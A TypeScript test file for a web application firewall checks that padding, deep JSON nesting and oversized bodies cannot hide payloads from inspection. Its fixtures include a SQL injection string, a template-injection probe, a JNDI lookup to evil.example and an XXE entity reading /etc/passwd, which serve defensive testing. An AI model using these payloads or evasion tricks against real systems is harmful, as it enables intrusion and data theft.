/**
 * What the engine does not read must not let a payload through: padding with a thousand dummy
 * parameters (in the query, a form, cookies), nesting JSON past the walk's depth, or a body longer
 * than what was read (protocol/unread.ts). Ordinary large requests keep passing.
 */
import { describe, expect, it } from 'vitest';
import { inspect } from '../src/inspect.ts';
import type { WafRequest } from '../src/types.ts';
import { browser, wire } from './protocol/wire.ts';

const attack = "1' union select password from users--";
const encodedAttack = encodeURIComponent(attack);
const dummies = (n: number) => Array.from({ length: n }, (_, i) => `f${i}=${i}`).join('&');

function post(contentType: string, body: string | Buffer, extra: Partial<WafRequest> = {}, method = 'POST'): WafRequest {
  const bytes = typeof body === 'string' ? Buffer.from(body) : body;
  const request = wire(`${method} /api/save HTTP/1.1\n${browser}\nContent-Type: ${contentType}\nContent-Length: ${bytes.length}\n\n`);
  return { ...request, body: new Uint8Array(bytes), ...extra };
}

describe('padding past the values the engine reads', () => {
  it('a query with 1,100 dummy parameters before the attack is refused in both modes', () => {
    const request = wire(`GET /search?${dummies(1100)}&q=${encodedAttack} HTTP/1.1\n${browser}\n\n`);
    for (const mode of ['loose', 'strict'] as const) expect(inspect(request, { mode })).toMatchObject({ action: 'block', rule: 'protocol.too_many_inputs', location: 'query' });
  });

  it('a padded query cannot push a form body out of reach either', () => {
    const body = `q=${encodedAttack}`;
    const request = wire(`POST /search?${dummies(1100)} HTTP/1.1\n${browser}\nContent-Type: application/x-www-form-urlencoded\nContent-Length: ${body.length}\n\n${body}`);
    expect(inspect(request, { mode: 'loose' })).toMatchObject({ action: 'block', rule: 'protocol.too_many_inputs' });
  });

  it('a form body with 1,100 dummy fields before the attack', () => {
    expect(inspect(post('application/x-www-form-urlencoded', `${dummies(1100)}&q=${encodedAttack}`), { mode: 'loose' })).toMatchObject({ action: 'block', rule: 'protocol.too_many_inputs', location: 'body' });
  });

  it('a Cookie header with 1,100 dummy cookies', () => {
    const cookies = Array.from({ length: 1100 }, (_, i) => `c${i}=1`).join('; ');
    const request = wire(`GET / HTTP/1.1\n${browser}\nCookie: ${cookies}; q=${encodedAttack}\n\n`);
    expect(inspect(request, { mode: 'loose' })).toMatchObject({ action: 'block', rule: 'protocol.too_many_inputs', location: 'header' });
  });

  it('an ordinary large form (400 fields) and a JSON list of 1,500 records with the same keys pass', () => {
    expect(inspect(post('application/x-www-form-urlencoded', dummies(400)), { mode: 'strict' })).toEqual({ action: 'pass' });
    // The records' keys repeat: each distinct key is read once, so 1,500 records cost 1,500 values.
    const records = Array.from({ length: 1500 }, (_, i) => ({ id: i, sku: `SKU-${i}`, qty: i % 7, active: true }));
    expect(inspect(post('application/json', JSON.stringify({ records })), { mode: 'strict' })).toEqual({ action: 'pass' });
  });

  it('without padding, the attack itself is what is reported', () => {
    expect(inspect(post('application/x-www-form-urlencoded', `${dummies(100)}&q=${encodedAttack}`), { mode: 'loose' })).toMatchObject({ action: 'block', kind: 'sqli' });
  });
});

describe('JSON nested past the walk\'s depth', () => {
  it('is still read', () => {
    const deep = '{"a":' + '['.repeat(40) + JSON.stringify(attack) + ']'.repeat(40) + '}';
    expect(inspect(post('application/json', deep), { mode: 'loose' })).toMatchObject({ action: 'block', kind: 'sqli' });
  });
});

describe('a body longer than what was read', () => {
  const longForm = `note=${'a'.repeat(1024 * 1024)}&q=${encodedAttack}`;

  it('a form body past the engine\'s 1 MiB: strict refuses it, loose records it', () => {
    expect(inspect(post('application/x-www-form-urlencoded', longForm), { mode: 'strict' })).toMatchObject({ action: 'block', rule: 'protocol.body_beyond_inspection' });
    expect(inspect(post('application/x-www-form-urlencoded', longForm), { mode: 'loose' })).toMatchObject({ action: 'record', rule: 'protocol.body_beyond_inspection' });
  });

  it('a JSON body the gateway cut at its window (bodyTruncated) counts too', () => {
    const head = post('application/json', '{"items":["' + 'x'.repeat(4000), { bodyTruncated: true });
    expect(inspect(head, { mode: 'strict' })).toMatchObject({ action: 'block', rule: 'protocol.body_beyond_inspection' });
  });

  it('uploads do not: a multipart file, a binary body, a JSON document PUT as a file', () => {
    const file = Buffer.concat([Buffer.from('--b\r\nContent-Disposition: form-data; name="f"; filename="video.mp4"\r\nContent-Type: video/mp4\r\n\r\n'), Buffer.alloc(64 * 1024, 7)]);
    expect(inspect(post('multipart/form-data; boundary=b', file, { bodyTruncated: true }), { mode: 'strict' })).toEqual({ action: 'pass' });
    expect(inspect(post('application/octet-stream', Buffer.alloc(64 * 1024, 7), { bodyTruncated: true }), { mode: 'strict' })).toEqual({ action: 'pass' });
    expect(inspect(post('application/json', '{"items":["' + 'x'.repeat(4000), { bodyTruncated: true }, 'PUT'), { mode: 'strict' })).toEqual({ action: 'pass' });
  });
});

describe('a payload after padding inside one long value', () => {
  // Every detector reads a value as far as the engine does (256 KiB); some stopped at 16-64 KiB.
  it.each([
    ['a template expression', '{{7*7}}{{config.__class__.__init__.__globals__}}', 20_000],
    ['a JNDI lookup', '${jndi:ldap://evil.example/a}', 100_000],
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 100_000],
    ['SQL', "1' union select password from users--", 200_000],
  ])('%s after %s characters', (_what, payload, pad) => {
    const body = `note=${'a'.repeat(pad)}+${encodeURIComponent(payload)}`;
    expect(inspect(post('application/x-www-form-urlencoded', body), { mode: 'loose' })).toMatchObject({ action: 'block' });
  });

  it('a value longer than 256 KiB with prose in its unread middle: strict refuses, loose records', () => {
    const prose = 'Le dernier chapitre, celui qu\u2019on attendait, commence ici. '.repeat(6000);
    const body = JSON.stringify({ title: 'Livre', text: prose });
    expect(body.length).toBeGreaterThan(300 * 1024);
    expect(inspect(post('application/json', body), { mode: 'strict' })).toMatchObject({ action: 'block', rule: 'protocol.value_beyond_inspection' });
    expect(inspect(post('application/json', body), { mode: 'loose' })).toMatchObject({ action: 'record', rule: 'protocol.value_beyond_inspection' });
  });

  it('a 600 KB base64 image inside JSON passes in strict', () => {
    const bytes = Buffer.alloc(450 * 1024);
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 2654435761) >>> 24;
    const body = JSON.stringify({ name: 'photo.jpg', data: bytes.toString('base64') });
    expect(inspect(post('application/json', body), { mode: 'strict' })).toEqual({ action: 'pass' });
  });
});
